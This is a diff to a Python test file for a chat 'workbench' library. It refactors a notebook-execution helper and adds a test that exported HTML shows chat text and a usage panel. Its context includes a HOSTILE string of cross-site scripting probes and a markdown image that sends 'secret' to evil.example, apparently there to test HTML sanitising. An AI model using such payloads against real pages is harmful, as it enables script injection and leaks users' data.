@@ -9,6 +9,7 @@ from typing import TYPE_CHECKING, Any
 import nbformat
 import pytest
 from nbclient import NotebookClient
+from nbconvert import HTMLExporter
 
 import workbench as wb
 from tests.faults.upstream import fault, reply
@@ -16,6 +17,8 @@ from workbench.markdown import safe_html
 from workbench.show import Cell, Nowhere, Terminal, display_for
 
 if TYPE_CHECKING:
+    from nbformat import NotebookNode
+
     from tests.faults.upstream import ScriptedUpstream
 
 HOSTILE = """<script>alert(1)</script> <img src=x onerror=alert(1)> ![pixel](https://evil.example/?q=secret)
@@ -32,11 +35,16 @@ HOSTILE = """<script>alert(1)</script> <img src=x onerror=alert(1)> ![pixel](htt
 
 
 # nbclient's own loop would clash with the one of async tests, so these are not async
-def outputs(*cells: str) -> list[list[dict[str, Any]]]:
-    """The outputs of cells, run one after another in a kernel of their own."""
+def executed(*cells: str) -> NotebookNode:
+    """A notebook whose cells were run one after another in a kernel of its own, without a page."""
     notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
     NotebookClient(notebook, timeout=120, allow_errors=True).execute(env={**os.environ, "PYTHONPATH": os.getcwd()})
-    return [cell.outputs for cell in notebook.cells]
+    return notebook
+
+
+def outputs(*cells: str) -> list[list[dict[str, Any]]]:
+    """The outputs of such cells."""
+    return [cell.outputs for cell in executed(*cells).cells]
 
 
 @pytest.fixture
@@ -115,8 +123,20 @@ class TestInANotebook:
             "import workbench as wb; chat = wb.Chat()", "chat.widget()", "chat.ask('What is 2+2?', show=False);"
         )
 
+        assert set(box.data) == {"text/plain", "text/markdown"}  # beside a widget nbconvert would not show the text
         assert box.data["text/plain"].startswith("You: What is 2+2?\n\nClaude: Four\n\nclaude-sonnet-5-5 · ")
         assert "<p>Four</p>" in box.data["text/markdown"]
+
+    def test_what_is_saved_without_a_page_shows_boxes_and_panels_everywhere(self, scripted: ScriptedUpstream) -> None:
+        scripted.script(reply("Four it is"), reply("Four it is"))
+        cells = ("import workbench as wb; chat = wb.Chat()", "chat.widget()", "chat.ask('2+2?', show=False);")
+        box, panel = executed(*cells), executed(*cells, "wb.UsagePanel()")
+
+        assert "widgets" not in box.metadata  # the JavaScript of the box
+        for notebook in (box, panel):
+            page, _ = HTMLExporter(embed_images=True).from_notebook_node(notebook)
+            assert "Four it is" in page
+        assert "<strong>$0.00" in page.replace("&#36;", "$")
 
 
 def test_a_terminal_shows_the_text_as_it_comes_and_the_footer(
